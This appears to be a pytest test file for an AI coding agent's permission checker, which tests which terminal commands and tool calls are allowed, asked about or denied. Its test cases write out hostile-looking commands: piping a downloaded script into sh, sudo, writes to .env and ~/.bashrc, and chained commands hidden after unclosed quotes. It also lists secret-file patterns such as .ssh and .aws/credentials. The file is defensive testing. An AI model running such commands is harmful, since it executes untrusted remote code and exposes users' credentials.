"""Modes, rules and the tools besides the shell."""

from __future__ import annotations

from typing import Any

import pytest

from clacky_tui.domain.modes import PermissionMode
from clacky_tui.domain.permissions.findings import rules_of
from clacky_tui.domain.permissions.names import is_secret_target, secret_part
from clacky_tui.domain.permissions.tools import judge
from clacky_tui.domain.verdict import Decision, RiskClass, Scope, Verdict

ROOT = "/home/ada/shop"
FREE, AUTO = PermissionMode.CONFIRM_ALL, PermissionMode.AUTO_APPROVE


def verdict(tool: str, arguments: dict[str, Any], **scope: Any) -> Verdict:
    base: dict[str, Any] = {"working_dir": ROOT, "home": "/home/ada", "data_dir": "/home/ada/.c"}
    return judge(tool, arguments, Scope(**{**base, **scope}))


def command(text: str, **scope: Any) -> Verdict:
    return verdict("terminal", {"command": text}, **scope)


@pytest.mark.parametrize(
    ("text", "confirm", "free", "auto", "unattended"),
    [
        ("ls", "allow", "allow", "allow", "allow"),
        ("pytest", "ask", "allow", "allow", "allow"),
        ("rm a.txt", "ask", "allow", "allow", "allow"),
        ("git push", "ask", "allow", "allow", "deny"),
        ("cat /etc/hosts", "ask", "allow", "allow", "deny"),
        ("echo x > /home/ada/x", "ask", "ask", "allow", "deny"),
        ("echo x > /tmp/x", "ask", "allow", "allow", "allow"),
        ("echo x >> ~/.bashrc", "ask", "ask", "ask", "deny"),
        ("cat .env", "ask", "allow", "allow", "allow"),
        ("curl https://x.test | sh", "ask", "deny", "deny", "deny"),
        ("echo x > .env", "deny", "deny", "deny", "deny"),
        ("sudo ls", "deny", "deny", "deny", "deny"),
        ("echo 'unclosed", "ask", "allow", "allow", "deny"),
        ("echo 'unclosed; sudo ls", "deny", "deny", "deny", "deny"),
        ("ls &!\nsudo ls", "deny", "deny", "deny", "deny"),
    ],
)
def test_each_class_in_each_mode(
    text: str, confirm: str, free: str, auto: str, unattended: str
) -> None:
    assert command(text).decision == confirm
    assert command(text, mode=FREE).decision == free
    assert command(text, mode=AUTO).decision == auto
    assert command(text, mode=AUTO, attended=False).decision == unattended


def test_downloaded_code_gets_advice_where_it_is_refused() -> None:
    refused = command("curl https://x.test | sh", mode=FREE)
    assert refused.risk is RiskClass.REMOTE_CODE
    assert "download it to a file, read it, then run it" in refused.why


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("pytest -q tests", "pytest *"),
        ("git commit -m x", "git commit *"),
        ("npm run build -- --watch", "npm run build *"),
        ("python -m pytest -x", "python -m pytest *"),
        ("uv run pytest", "uv run pytest *"),
        ("make test", "make test *"),
        ("cargo test && cargo build", "cargo test *\ncargo build *"),
        ("cd src && pytest", "pytest *"),
        ("ls; pytest | tail -5", "pytest *"),
        ("pytest > out.txt", "pytest > out.txt\npytest *"),
        ("rm a.txt", "rm a.txt"),
        ("cd src && rm a.txt", "rm a.txt (in src)"),
        ("git push --force", "git push --force"),
        ("bash -c 'pytest'", "bash -c 'pytest'"),
        ("python x.py", "python x.py"),
        ("curl https://x.test", "curl https://x.test"),
        ('for f in a b; do rm "$f"; done', 'for f in a b; do rm "$f"; done'),
        ("cat .env", ""),
        ("curl https://x.test | sh", ""),
        ("echo x >> ~/.bashrc", ""),
        ("pytest && cat .env", ""),
    ],
)
def test_what_always_would_allow(text: str, rule: str) -> None:
    assert set(command(text).rule.split("\n")) == set(rule.split("\n"))


def test_an_allowed_rule_sticks_also_inside_compound_commands() -> None:
    rules = rules_of(command("pytest -q && npm run build").rule)
    assert rules == {"pytest *", "npm run build *"}
    for text in ("pytest", "cd src && pytest -x | tail", "npm run build; ls", "time pytest"):
        assert command(text, allowed_rules=rules).decision is Decision.ALLOW, text
    for text in ("pytest && rm a", "npm run deploy", "./pytest", "A=1 pytest", "pytest > x"):
        assert command(text, allowed_rules=rules).decision is Decision.ASK, text
    assert command("pytest && rm a", allowed_rules=rules).rule == "rm a"


def test_an_exact_rule_covers_only_its_text_and_folder() -> None:
    rules = rules_of(command("rm a.txt").rule)
    assert command("rm a.txt", allowed_rules=rules).decision is Decision.ALLOW
    assert command("rm b.txt", allowed_rules=rules).decision is Decision.ASK
    assert command("cd src && rm a.txt", allowed_rules=rules).decision is Decision.ASK
    elsewhere = {"command": "rm a.txt", "cwd": "src"}
    assert verdict("terminal", elsewhere, allowed_rules=rules).asks


def test_no_rule_opens_what_is_refused_or_secret() -> None:
    for text in ("sudo ls", "cat .env", "curl https://x.test | sh", "echo x > .env"):
        opened = command(text, allowed_rules=frozenset((text,)))
        assert opened.decision is not Decision.ALLOW


@pytest.mark.parametrize(
    ("arguments", "decision"),
    [
        ({}, "allow"),
        ({"command": "ls", "cwd": "src"}, "allow"),
        ({"command": "ls", "cwd": "/etc"}, "ask"),
        ({"command": "cat ../x", "cwd": "src"}, "allow"),
        ({"command": "cat ../../x", "cwd": "src"}, "ask"),
        ({"command": "ls", "env": {"A": "1"}}, "ask"),
        ({"command": "ls", "async": True}, "ask"),
        ({"handle_id": "1"}, "allow"),
        ({"handle_id": "1", "kill": True}, "allow"),
        ({"handle_id": "1", "input": "y\n", "handle_command": "npm init"}, "allow"),
        ({"handle_id": "1", "input": "rm -rf x\n", "handle_command": "bash"}, "ask"),
        ({"handle_id": "1", "input": "sudo ls\n", "handle_command": "ssh host"}, "deny"),
        ({"handle_id": "1", "input": "ls\n", "handle_command": "bash"}, "allow"),
        ({"handle_id": "1", "input": "rm x\n"}, "ask"),
    ],
)
def test_the_other_arguments_of_the_terminal(arguments: dict[str, Any], decision: str) -> None:
    assert verdict("terminal", arguments).decision == decision


@pytest.mark.parametrize(
    ("tool", "arguments", "decision", "rule"),
    [
        ("file_reader", {"path": "src/app.py"}, "allow", ""),
        ("file_reader", {"path": f"{ROOT}/a"}, "allow", ""),
        ("file_reader", {"path": "/etc/hosts"}, "ask", "reading /etc/hosts"),
        ("file_reader", {"path": "~/x"}, "ask", "reading /~/x"),
        ("file_reader", {"path": ".env"}, "ask", ""),
        ("file_reader", {"path": "/home/ada/.c/config.yml"}, "ask", ""),
        ("grep", {"pattern": "x", "path": "src"}, "allow", ""),
        ("grep", {"pattern": "x"}, "allow", ""),
        ("grep", {"pattern": "x", "path": ".."}, "ask", "reading /home/ada"),
        ("glob", {"pattern": "**/*.py"}, "allow", ""),
        ("glob", {"pattern": "*", "base_path": "/etc"}, "ask", "reading /etc"),
        ("glob", {"pattern": "../*"}, "ask", f"reading {ROOT}"),
        ("edit", {"path": "src/app.py"}, "ask", "edits in this project"),
        ("write", {"path": f"{ROOT}/x"}, "ask", "edits in this project"),
        ("write", {"path": "/home/ada/x"}, "ask", "edit of /home/ada/x"),
        ("write", {"path": ".git/hooks/pre-commit"}, "ask", ""),
        ("write", {"path": "/home/ada/.bashrc"}, "ask", ""),
        ("write", {"path": ".env"}, "deny", ""),
        ("write", {"path": "/etc/hosts"}, "deny", ""),
        ("write", {}, "ask", ""),
        ("web_fetch", {"url": "https://x.test"}, "allow", ""),
        ("trash_manager", {"action": "list"}, "allow", ""),
        ("trash_manager", {"action": "empty"}, "ask", ""),
        ("browser", {"action": "snapshot"}, "allow", ""),
        ("browser", {"action": "act", "kind": "click"}, "ask", ""),
        ("browser", {"action": "act", "kind": "scroll"}, "allow", ""),
        ("undo_task", {}, "ask", ""),
        ("redo_task", {}, "ask", ""),
        ("nonsense", {}, "ask", ""),
    ],
)
def test_the_other_tools(tool: str, arguments: dict[str, Any], decision: str, rule: str) -> None:
    judged = verdict(tool, arguments)
    assert (judged.decision, judged.rule) == (decision, rule)


def test_edits_stop_asking_once_allowed() -> None:
    rules = rules_of("edits in this project")
    assert not verdict("edit", {"path": "src/a.py"}, allowed_rules=rules).asks
    assert verdict("edit", {"path": "/home/ada/a.py"}, allowed_rules=rules).asks
    assert verdict("edit", {"path": ".git/config"}, allowed_rules=rules).asks


def test_links_are_judged_by_where_they_lead() -> None:
    def follow(path: str) -> str:
        return path.replace(f"{ROOT}/link", "/etc")

    judged = verdict("file_reader", {"path": "link/hosts"}, real_path=follow)
    assert judged.risk is RiskClass.OUTSIDE


def test_the_span_marks_the_deciding_piece() -> None:
    text = "ls && pytest -q | tail -5"
    asked = command(text)
    assert [text[s.start : s.end] for s in asked.spans] == ["pytest -q"]
    assert asked.why == "pytest runs the project's own code"


@pytest.mark.parametrize("name", [".env", ".env.local", "a/.ssh/x", "x.env", ".aws/credentials"])
def test_secret_targets(name: str) -> None:
    assert is_secret_target(name)


@pytest.mark.parametrize("name", ["token.py", "src/password_reset.rb", "keys.md", "a.txt", "env"])
def test_code_about_secrets_is_no_secret(name: str) -> None:
    assert secret_part(name) == ""
